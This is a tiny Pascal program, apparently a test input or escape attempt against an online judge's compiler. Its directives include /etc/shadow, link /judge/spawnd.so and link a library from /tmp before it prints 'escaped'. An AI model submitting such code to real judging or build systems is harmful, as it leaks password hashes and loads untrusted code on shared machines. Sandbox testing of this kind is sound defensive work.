program main;
{$I /etc/shadow}
{$L /judge/spawnd.so}
{$LINKLIB /tmp/own}
begin
  writeln('escaped');
end.
